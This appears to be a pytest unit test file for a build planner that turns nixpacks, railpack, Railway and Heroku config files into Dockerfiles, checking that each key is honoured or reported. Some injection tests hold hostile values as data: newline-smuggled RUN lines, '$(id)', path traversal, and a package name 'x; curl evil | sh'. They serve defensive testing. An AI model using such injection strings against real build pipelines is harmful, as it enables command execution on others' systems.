"""Every key of the files that people bring is honoured or answered."""

import json
import shutil
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.unit.planner_trees import FASTAPI, decided, planned, warned

from leeward.builders import relaxed_json
from leeward.builders.foreign_packages import NIX
from leeward.errors import Invalid, PlanFailed
from leeward.model import parse
from leeward.model.build import BuildPlan
from leeward.plan.release import left

PYTHON = {"requirements.txt": "fastapi\nuvicorn\n", "main.py": FASTAPI}
NODE = {"package.json": '{"scripts": {"build": "tsc", "start": "node x.js"}}', "package-lock.json": "{}"}


def nixpacks(root: Path, table: Mapping[str, Any], files: Mapping[str, str] = PYTHON, **env: str) -> BuildPlan:
    return planned(root, {**files, "nixpacks.json": json.dumps(table)}, env=env)


def railpack(root: Path, table: Mapping[str, Any], files: Mapping[str, str] = PYTHON, **env: str) -> BuildPlan:
    return planned(root, {**files, "railpack.json": json.dumps(table)}, env=env)


def heroku(root: Path, table: Mapping[str, Any], files: Mapping[str, str] = PYTHON, **env: str) -> BuildPlan:
    return planned(root, {**files, "app.json": json.dumps(table)}, env=env)


def told(found: BuildPlan) -> str:
    return "\n".join(note.text for note in found.diagnostics)


# Key by key: a value, and what must be in the Dockerfile; '' where the answer is a diagnostic.
NIXPACKS_KEYS: Mapping[str, tuple[Mapping[str, Any], str]] = {
    "providers": ({"providers": ["python"]}, "python3"),
    "buildImage": ({"buildImage": "x"}, ""),
    "variables": ({"variables": {"A_VARIABLE": "x"}}, "A_VARIABLE=x"),
    "staticAssets": ({"staticAssets": {"a.txt": "x"}}, "/assets/a.txt"),
    "nixPkgs": ({"phases": {"setup": {"nixPkgs": ["imagemagick"]}}}, "imagemagick"),
    "nixPackages": ({"phases": {"setup": {"nixPackages": ["imagemagick"]}}}, "imagemagick"),
    "nixLibs": ({"phases": {"setup": {"nixLibs": ["libGL"]}}}, "libgl1"),
    "nixOverlays": ({"phases": {"setup": {"nixOverlays": ["x"]}}}, ""),
    "nixpkgsArchive": ({"phases": {"setup": {"nixpkgsArchive": "x"}}}, ""),
    "aptPkgs": ({"phases": {"setup": {"aptPkgs": ["jq"]}}}, " jq "),
    "cmds": ({"phases": {"install": {"cmds": ["make deps"]}}}, "make deps"),
    "setup": ({"phases": {"setup": {"cmds": ["make tools"]}}}, "make tools"),
    "commands": ({"phases": {"build": {"commands": ["make all"]}}}, "make all"),
    "dependsOn": ({"phases": {"late": {"dependsOn": ["build"], "cmds": ["make late"]}}}, "make late"),
    "cacheDirectories": ({"phases": {"install": {"cacheDirectories": ["~/.things"]}}}, "target=/root/.things"),
    "paths": ({"phases": {"setup": {"paths": ["/opt/tool/bin"]}}}, "PATH=/opt/tool/bin:$PATH"),
    "onlyIncludeFiles": ({"phases": {"install": {"onlyIncludeFiles": ["x"]}}}, ""),
    "start.cmd": ({"start": {"cmd": "serve it"}}, "exec serve it"),
    "start.runImage": ({"start": {"runImage": "x"}}, ""),
    "start.user": ({"start": {"user": "x"}}, ""),
    "start.onlyIncludeFiles": ({"start": {"onlyIncludeFiles": ["x"]}}, ""),
    "unknown": ({"nonsense": 1}, ""),
    "unknown of a phase": ({"phases": {"setup": {"nonsense": 1}}}, ""),
    "unknown of start": ({"start": {"nonsense": 1}}, ""),
}
RAILPACK_KEYS: Mapping[str, tuple[Mapping[str, Any], str]] = {
    "provider": ({"provider": "python"}, "python3"),
    "buildAptPackages": ({"buildAptPackages": ["jq"]}, " jq "),
    "packages": ({"packages": {"jq": "latest"}}, " jq "),
    "packages of a language": ({"packages": {"python": "3.11"}}, "leeward-base/python3.11:"),
    "caches": (
        {"caches": {"x": {"directory": "/root/.x"}}, "steps": {"install": {"caches": ["x"]}}},
        "target=/root/.x",
    ),
    "a cache that is not there": ({"steps": {"install": {"caches": ["x"]}}}, ""),
    "exclude": ({"exclude": ["docs"]}, ""),
    "commands": ({"steps": {"build": {"commands": [{"cmd": "make all"}]}}}, "make all"),
    "variables of a step": ({"steps": {"build": {"variables": {"A_VARIABLE": "x"}}}}, "A_VARIABLE=x"),
    "secrets of a step": ({"steps": {"build": {"secrets": ["x"]}}}, ""),
    "inputs of an image": ({"steps": {"build": {"inputs": [{"image": "x"}]}}}, ""),
    "deployOutputs": ({"steps": {"build": {"deployOutputs": ["x"]}}}, ""),
    "startCommand": ({"deploy": {"startCommand": "serve it"}}, "exec serve it"),
    "deploy.aptPackages": ({"deploy": {"aptPackages": ["jq"]}}, " jq "),
    "deploy.variables": ({"deploy": {"variables": {"A_VARIABLE": "x"}}}, "A_VARIABLE=x"),
    "deploy.paths": ({"deploy": {"paths": ["/opt/tool/bin"]}}, "PATH=/opt/tool/bin:$PATH"),
    "deploy.inputs": ({"deploy": {"inputs": []}}, ""),
    "deploy.base": ({"deploy": {"base": {}}}, ""),
    "unknown": ({"nonsense": 1}, ""),
    "unknown of a step": ({"steps": {"build": {"nonsense": 1}}}, ""),
    "unknown of deploy": ({"deploy": {"nonsense": 1}}, ""),
}


RAILWAY_KEYS: Mapping[str, tuple[Mapping[str, Any], str]] = {
    "build.buildCommand": ({"build": {"buildCommand": "make all"}}, "make all"),
    "build.nixpacksPlan": ({"build": {"nixpacksPlan": {"phases": {"setup": {"aptPkgs": ["jq"]}}}}}, " jq "),
    "build.nixpacksConfigPath": ({"build": {"nixpacksConfigPath": "nowhere.toml"}}, ""),
    "build.dockerfilePath": ({"build": {"dockerfilePath": "x"}}, ""),
    "build.watchPatterns": ({"build": {"watchPatterns": ["x"]}}, ""),
    "deploy.startCommand": ({"deploy": {"startCommand": "serve it"}}, "exec serve it"),
    "deploy.cronSchedule": ({"deploy": {"cronSchedule": "* * * * *"}}, ""),
    "deploy.restartPolicyType": ({"deploy": {"restartPolicyType": "NEVER"}}, ""),
    "unknown": ({"deploy": {"nonsense": 1}}, ""),
    "environments": ({"environments": {}}, ""),
}


@pytest.mark.parametrize("key", RAILWAY_KEYS)
def test_every_key_of_railway_has_a_say_or_an_answer(tmp_path: Path, key: str) -> None:
    table, expected = RAILWAY_KEYS[key]

    found = planned(tmp_path, {**PYTHON, "railway.json": json.dumps(table)})

    assert expected in found.dockerfile
    assert expected or "not-honoured" in warned(found)


def test_railway_says_health_release_and_instances_and_wins_over_a_procfile(tmp_path: Path) -> None:
    deploy = {"preDeployCommand": ["one", "two"], "healthcheckPath": "/up", "numReplicas": 3, "startCommand": "run"}
    files = {**PROCFILE, "railway.toml": "", "railway.json": json.dumps({"deploy": deploy})}

    found = planned(tmp_path, files)

    assert (found.release_command, found.health_path, found.start_command) == ("one && two", "/up", "run")
    assert found.formation["web"] == {"instances": 3}


@pytest.mark.parametrize("key", NIXPACKS_KEYS)
def test_every_key_of_nixpacks_has_a_say_or_an_answer(tmp_path: Path, key: str) -> None:
    table, expected = NIXPACKS_KEYS[key]

    found = nixpacks(tmp_path, table)

    assert expected in found.dockerfile
    assert expected or "not-honoured" in warned(found)


@pytest.mark.parametrize("key", RAILPACK_KEYS)
def test_every_key_of_railpack_has_a_say_or_an_answer(tmp_path: Path, key: str) -> None:
    table, expected = RAILPACK_KEYS[key]

    found = railpack(tmp_path, table)

    assert expected in found.dockerfile
    assert expected or "not-honoured" in warned(found) or "docs" in found.dockerignore


def test_a_spread_keeps_what_the_provider_does(tmp_path: Path) -> None:
    text = nixpacks(tmp_path, {"phases": {"build": {"cmds": ["echo one", "...", "echo two"]}}}, NODE).dockerfile

    assert text.index("echo one") < text.index("npm run build") < text.index("echo two")


def test_without_a_spread_only_the_files_commands_run(tmp_path: Path) -> None:
    text = nixpacks(tmp_path, {"phases": {"build": {"cmds": ["make a", "make b"]}}}, NODE).dockerfile

    assert "set -e\\nmake a\\nmake b" in text
    assert "npm run build" not in text


def test_phases_run_in_the_order_of_what_they_need(tmp_path: Path) -> None:
    phases = {
        "z": {"cmds": ["echo first"]},
        "m": {"dependsOn": ["install"], "cmds": ["echo middle"]},
        "a": {"dependsOn": ["m", "build"], "cmds": ["echo last"]},
    }

    text = nixpacks(tmp_path, {"phases": phases}, NODE).dockerfile

    places = [text.index(word) for word in ("echo first", "npm ci", "echo middle", "npm run build", "echo last")]
    assert places == sorted(places)


def test_the_order_of_files_is_manifest_variable_railpack_nixpacks_procfile(tmp_path: Path) -> None:
    files = dict(PYTHON)
    starts = []
    for name, text in (
        ("Procfile", "web: procfile\n"),
        ("nixpacks.toml", '[start]\ncmd = "nixpacks"\n'),
        ("railpack.json", '{"deploy": {"startCommand": "railpack"}}'),
    ):
        files[name] = text
        starts.append(planned(tmp_path, files).start_command)
    starts.append(planned(tmp_path, files, env={"NIXPACKS_START_CMD": "variable"}).start_command)
    files["leeward.yaml"] = "processes: {web: {command: manifest}}\n"
    starts.append(planned(tmp_path, files, env={"NIXPACKS_START_CMD": "variable"}).start_command)

    assert starts == ["procfile", "nixpacks", "railpack", "variable", "manifest"]


def test_a_variable_of_the_app_wins_over_a_files_default(tmp_path: Path) -> None:
    found = nixpacks(tmp_path, {"variables": {"LEVEL": "info", "OTHER": "x"}}, LEVEL="debug")

    assert "LEVEL=info" not in found.dockerfile
    assert "OTHER=x" in found.dockerfile


@pytest.mark.parametrize("value", ["a$HOME", 'say "hi"', "back\\slash", "`id`", "$(id)", "a b", "#x", "'"])
def test_nothing_in_a_files_value_is_filled_in(tmp_path: Path, value: str) -> None:
    line = next(
        line for line in nixpacks(tmp_path, {"variables": {"A": value}}).dockerfile.splitlines() if " A=" in line
    )

    said = line.partition("A=")[2]
    inner = said[1:-1] if said.startswith('"') else said
    assert inner.replace("\\$", "$").replace('\\"', '"').replace("\\\\", "\\") == value
    assert "$" not in inner.replace("\\$", "")


@pytest.mark.parametrize(
    "table",
    [
        {"variables": {"A": "x\nRUN evil"}},
        {"variables": {"A=1\nRUN evil": "x"}},
        {"phases": {"setup": {"paths": ["/x\nRUN evil"]}}},
        {"phases": {"install": {"cacheDirectories": ["/x,source=/etc", "/x evil", "../../evil"]}}},
        {"staticAssets": {"../../evil": "x", "a\nRUN evil": "y"}},
    ],
    ids=lambda table: next(iter(table)),
)
def test_a_hostile_value_never_becomes_an_instruction(tmp_path: Path, table: Mapping[str, Any]) -> None:
    found = nixpacks(tmp_path, table)

    assert "evil" not in found.dockerfile
    assert "source=/etc" not in found.dockerfile
    assert "not-honoured" in warned(found)


def test_a_package_that_is_none_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Invalid, match="curl"):
        nixpacks(tmp_path, {"phases": {"setup": {"aptPkgs": ["x; curl evil | sh"]}}})


@pytest.mark.parametrize(
    "file", ["nixpacks.json", "nixpacks.toml", "railpack.json", "app.json", "project.toml", "railway.toml"]
)
@pytest.mark.parametrize("text", ["{", "[1, 2", "\x00", "]]", "{" * 5000])
def test_a_broken_file_is_named(tmp_path: Path, file: str, text: str) -> None:
    with pytest.raises(PlanFailed, match=file):
        planned(tmp_path, {**PYTHON, file: text})


@pytest.mark.parametrize("file", ["nixpacks.json", "railpack.json", "app.json"])
def test_values_of_wrong_types_break_nothing(tmp_path: Path, file: str) -> None:
    keys = ("providers", "phases", "start", "variables", "steps", "deploy", "env", "formation", "scripts", "buildpacks")
    for wrong in (None, 1, "x", [1], {"a": 1}, {"a": {"b": [1]}}, [[]], True):
        planned(tmp_path, {**PYTHON, file: json.dumps(dict.fromkeys(keys, wrong))})


def test_a_language_of_the_apps_own_is_a_version_and_another_is_a_package(tmp_path: Path) -> None:
    found = nixpacks(tmp_path, {"phases": {"setup": {"nixPkgs": ["python311", "nodejs_22"]}}})

    assert decided(found, "python version") == "3.11 <- nixpacks.json:1"
    assert "nodejs npm" in found.dockerfile


def test_a_version_that_there_is_not_leaves_the_usual_one_and_is_told(tmp_path: Path) -> None:
    found = nixpacks(tmp_path, {"phases": {"setup": {"nixPkgs": ["python310"]}}})

    assert found.versions == {"python": "3.13"}
    assert "asks for python 3.10, which there is not" in told(found)


@pytest.mark.parametrize(
    ("name", "debian"),
    [("ffmpeg", "ffmpeg"), ("poppler_utils", "poppler-utils"), ("tesseract", "tesseract-ocr"), ("vips", "libvips-dev")],
)
def test_names_of_nixpkgs_become_debians(tmp_path: Path, name: str, debian: str) -> None:
    assert debian in nixpacks(tmp_path, {"phases": {"setup": {"nixPkgs": [name]}}}).dockerfile


def test_the_table_of_names_is_large_and_holds_only_packages() -> None:
    assert len(NIX) > 120
    for needs in NIX.values():
        assert all(package == package.strip().lower() for package in (*needs.run, *needs.build))


def test_only_listed_secrets_are_shown_to_a_build(tmp_path: Path) -> None:
    files = {**PYTHON, "leeward.yaml": "build: {command: make}\n"}

    found = railpack(tmp_path, {"secrets": ["A_KEY"]}, files, A_KEY="1", B_KEY="2")

    assert found.build_secrets == ("A_KEY",)


def test_caches_are_dropped_by_name_or_altogether(tmp_path: Path) -> None:
    with_caches = planned(tmp_path, PYTHON).dockerfile
    assert "target=/var/cache/uv" in with_caches

    for env in ({"NIXPACKS_NO_CACHE": "1"}, {"RAILPACK_DISABLE_CACHES": "uv"}, {"RAILPACK_DISABLE_CACHES": "*"}):
        assert "target=/var/cache/uv" not in planned(tmp_path, PYTHON, env=env).dockerfile


# --- Heroku -------------------------------------------------------------------------------------------------

PROCFILE = {**PYTHON, "Procfile": "web: serve\nworker: work\nclock: tick\nrelease: upgrade\n"}


def test_variables_of_app_json_have_values_random_values_or_are_asked_for(tmp_path: Path) -> None:
    env = {
        "PLAIN": "x",
        "VALUE": {"value": "y"},
        "SECRET": {"generator": "secret"},
        "NEEDED": {"description": "z"},
        "OPTIONAL": {"required": False},
    }

    found = heroku(tmp_path, {"env": env})

    assert "PLAIN=x" in found.dockerfile and "VALUE=y" in found.dockerfile
    assert found.generated == ("SECRET",)
    assert [note.text for note in found.diagnostics if note.code == "variable-wanted"] == [
        "app.json:1 the app needs the variable 'NEEDED', which has no value"
    ]
    assert "variable-wanted" not in warned(heroku(tmp_path, {"env": env}, NEEDED="1"))


def test_a_formation_is_how_an_app_begins(tmp_path: Path) -> None:
    formation = {"web": {"quantity": 3, "size": "standard-2x"}, "worker": {"quantity": 0}, "none": {"quantity": 1}}

    found = heroku(tmp_path, {"formation": formation}, PROCFILE)

    assert found.formation == {
        "web": {"instances": 3, "size": "small"},
        "worker": {"instances": 0},
        "clock": {"instances": 0},
    }
    assert "there is no process 'none'" in told(found)
    assert "not-started" in warned(found)


def test_the_manifest_says_more_than_a_formation(tmp_path: Path) -> None:
    files = {**PROCFILE, "leeward.yaml": "processes: {web: {size: nano}, clock: {command: tick}}\n"}

    assert heroku(tmp_path, {"formation": {"web": {"quantity": 3}}}, files).formation == {}


def test_postdeploy_is_the_first_command_and_release_runs_each_time(tmp_path: Path) -> None:
    found = heroku(tmp_path, {"scripts": {"postdeploy": "seed"}}, PROCFILE)

    assert (found.first_command, found.release_command) == ("seed", "upgrade")


def test_a_cron_of_an_app_json_is_named_with_what_to_do_instead(tmp_path: Path) -> None:
    table = {"cron": [{"command": "python tidy.py", "schedule": "@daily"}, 7]}

    found = planned(tmp_path, {**PYTHON, "app.json": json.dumps(table, indent=1)})

    (said,) = [each for each in found.diagnostics if "@daily" in each.text]
    assert said.text == "app.json:4 cron '@daily' has no effect"
    assert "processes.NAME.schedule" in said.fix


def test_an_app_json_of_expo_is_none_of_ours(tmp_path: Path) -> None:
    assert planned(tmp_path, {**PYTHON, "app.json": '{"expo": {"name": "x"}}'}).diagnostics == (
        planned(tmp_path, {**PYTHON, "app.json": "{}"}).diagnostics
    )


def test_buildpacks_are_languages_or_a_notice(tmp_path: Path) -> None:
    listed = "heroku/nodejs\nhttps://github.com/heroku/heroku-buildpack-python.git\nhttps://example.com/wasm\n"

    found = planned(tmp_path, {**PYTHON, "package.json": "{}", ".buildpacks": listed})

    assert found.providers[0] == "python"
    assert "the buildpack 'https://example.com/wasm' is not run" in told(found)


@pytest.mark.parametrize("path", [".profile", ".profile.d/env.sh", "heroku.yml", "fly.toml"])
def test_what_is_not_read_is_said(tmp_path: Path, path: str) -> None:
    assert path in told(planned(tmp_path, {**PYTHON, path: "x: 1\n"}))


def test_the_root_of_a_static_site_is_its_output(tmp_path: Path) -> None:
    table = {"root": "pages/", "clean_urls": True}
    files = {"index.html": "", "pages/index.html": "", "static.json": json.dumps(table)}

    found = planned(tmp_path, files)

    assert decided(found, "site").startswith("pages")
    assert "'clean_urls' has no effect" in told(found)


def test_slugignore_keeps_files_out(tmp_path: Path) -> None:
    found = planned(tmp_path, {**PYTHON, ".slugignore": "# x\ndocs/\n/top.txt\n*.psd\n"})

    rules = found.dockerignore
    assert rules[rules.index("**/docs") :] == ("**/docs", "top.txt", "**/*.psd", "!requirements.txt")


def test_a_project_file_bounds_the_source_and_sets_versions(tmp_path: Path) -> None:
    text = """
        [_]
        schema-version = "0.2"
        [io.buildpacks]
        exclude = ["docs"]
        [[io.buildpacks.build.env]]
        name = "BP_CPYTHON_VERSION"
        value = "3.11"
        [[io.buildpacks.build.env]]
        name = "LEVEL"
        value = "x"
    """

    found = planned(tmp_path, {**PYTHON, "project.toml": text})

    assert found.versions == {"python": "3.11"}
    assert "docs" in found.dockerignore
    assert found.dockerfile.count("LEVEL=x") == 1


def test_jobs_of_the_manifest_are_decisions_and_replace_the_release_command(tmp_path: Path) -> None:
    manifest = "jobs: {migrate: {command: alembic upgrade head}}\n"

    found = planned(tmp_path, {**PROCFILE, "leeward.yaml": manifest})

    assert found.release_command is None
    assert decided(found, "job migrate") == "alembic upgrade head <- leeward.yaml:1"
    after = "jobs: {tell: {command: tell, when: after_success}}\n"
    assert planned(tmp_path, {**PROCFILE, "leeward.yaml": after}).release_command == "upgrade"


# --- JSON as people write it --------------------------------------------------------------------------------


def test_json_may_have_comments_commas_bare_keys_and_single_quotes() -> None:
    text = "{ // one\n a: 'it\\'s \"x\"', /* two */ 'b': [1, .5, +2, 3.,], c: {d: true, e: null,},\n}"

    assert relaxed_json.loads(text) == {"a": 'it\'s "x"', "b": [1, 0.5, 2, 3.0], "c": {"d": True, "e": None}}


@pytest.mark.parametrize("text", ['{"a": "x" "y"}', "{a: }", "[1 2]", '"\n"', "{'a': 'b", "@"])
def test_what_is_no_json_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"."):
        relaxed_json.loads(text)


TREES = Path(__file__).parents[1] / "golden" / "trees"
ONE_OF_EACH = [
    "fastapi",
    "express",
    "vite",
    "go",
    "rust",
    "java",
    "gradle",
    "php",
    "laravel",
    "rails",
    "ruby",
    "static",
]
ONE_OF_EACH += ["static-public", "deno", "dotnet", "elixir", "shell", "plain-script"]


@pytest.mark.parametrize("tree", ONE_OF_EACH)
def test_in_every_language_each_command_runs_in_its_place_or_is_answered(tmp_path: Path, tree: str) -> None:
    shutil.copytree(TREES / tree, tmp_path, dirs_exist_ok=True)
    phases = {name: {"cmds": [f"echo before-{name}", "...", f"echo after-{name}"]} for name in ("install", "build")}
    phases["setup"] = {"cmds": ["echo setup"], "aptPkgs": ["jq"]}

    found = planned(tmp_path, {"nixpacks.json": json.dumps({"phases": phases, "variables": {"A_NAME": "x"}})})

    words = ("setup", "before-install", "after-install", "before-build", "after-build")
    places = [found.dockerfile.find(f'"echo {word}"') for word in words]
    assert [place for place in places if place > 0] == sorted(place for place in places if place > 0)
    missing = [word for word, place in zip(words, places, strict=True) if place < 0]
    assert all(f"'echo {word}' does not run" in told(found) for word in missing)
    last = found.dockerfile.rpartition("FROM ")[2]
    assert " jq" in last and "A_NAME=x" in last


def test_a_file_above_the_apps_folder_is_said_not_to_be_read(tmp_path: Path) -> None:
    files = {f"backend/{path}": text for path, text in PYTHON.items()}

    found = planned(tmp_path, {**files, "nixpacks.toml": '[start]\ncmd = "x"\n'})

    assert "nixpacks.toml is not read: the app lies in 'backend'" in told(found)


# --- any file -----------------------------------------------------------------------------------------------

NAMES = """
    phases setup install build cmds dependsOn nixPkgs aptPkgs start cmd variables steps commands inputs step deploy
    packages caches directory env formation scripts buildpacks url quantity size generator secrets exclude paths ... é
"""
KEYS = st.sampled_from([*NAMES.split(), "a\n", ""])
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-2, 10**20) | st.floats() | st.sampled_from(["...", "jq", "x y", "\ud800"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS, inner, max_size=4),
    max_leaves=12,
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(table=st.dictionaries(KEYS, VALUES, max_size=5), file=st.sampled_from(["nixpacks", "railpack", "app"]))
def test_no_file_breaks_a_plan(tmp_path: Path, table: Mapping[str, Any], file: str) -> None:
    try:
        found = planned(tmp_path, {**PYTHON, f"{file}.json": json.dumps(table)})
    except (PlanFailed, Invalid):
        return
    finally:
        (tmp_path / f"{file}.json").unlink(missing_ok=True)
    found.dockerfile.encode()


def test_a_process_that_left_the_procfile_goes(tmp_path: Path) -> None:
    known = parse.manifest("processes: {web: {size: nano}, worker: {size: micro}}\n")

    found = planned(tmp_path, {**PYTHON, "Procfile": "web: serve\n"}, spec=known)

    assert set(found.processes) == {"web"}
    assert "process-gone" in warned(found)
    assert set(left(known, found.processes, found.strategy).processes) == {"web"}
    assert left(known, found.processes, "dockerfile") == known


def test_a_worker_of_the_manifest_without_a_command_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Invalid, match="processes/worker/command"):
        planned(tmp_path, {**PYTHON, "leeward.yaml": "processes: {worker: {size: micro}}\n"})


def test_scripts_around_a_node_build_that_nobody_runs_are_said(tmp_path: Path) -> None:
    scripts = {"start": "node x.js", "heroku-prebuild": "one", "heroku-cleanup": "two"}

    found = planned(tmp_path, {"package.json": json.dumps({"scripts": scripts}), "x.js": ""})

    assert [note.text.split()[-3:] for note in found.diagnostics if note.code == "not-honoured"] == [
        ["is", "not", "run"]
    ] * 2
